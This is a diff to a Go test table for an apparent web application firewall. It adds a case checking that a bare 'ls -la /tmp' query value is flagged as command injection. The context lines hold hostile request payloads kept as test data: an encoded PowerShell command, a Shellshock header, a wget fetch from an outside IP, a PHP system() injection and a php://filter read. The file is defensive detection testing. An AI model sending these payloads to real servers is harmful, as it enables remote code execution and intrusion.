@@ -68,6 +68,9 @@ func TestAttacksBlocked(t *testing.T) {
 		{"rce windows", get("/q?x=a%26powershell+-enc+ZQBjAGgAbwAgAGgAaQAgAHQAaABlAHIAZQA="), RCE},
 		{"shellshock", get("/cgi-bin/x", Header{"Referer", "() { :; }; /bin/id"}), RCE},
 		{"command with options", get("/", Header{"User-Agent", "nohup wget -q -O- http://203.0.113.9/a"}), RCE},
+		// The only value the cmd view is asked for: the rule must read
+		// this value's view, not what an earlier value left.
+		{"command with options alone", get("/files?q=ls%20-la%20/tmp"), RCE},
 		{"command chain", post("/run", "application/x-www-form-urlencoded", "code=strace+ifconfig"), RCE},
 		{"php tag", post("/upload", "application/x-www-form-urlencoded", "c=%3C%3Fphp+system($_GET[1]);"), PHP},
 		{"php wrapper", get("/index.php?page=php://filter/convert.base64-encode/resource=index"), PHP},
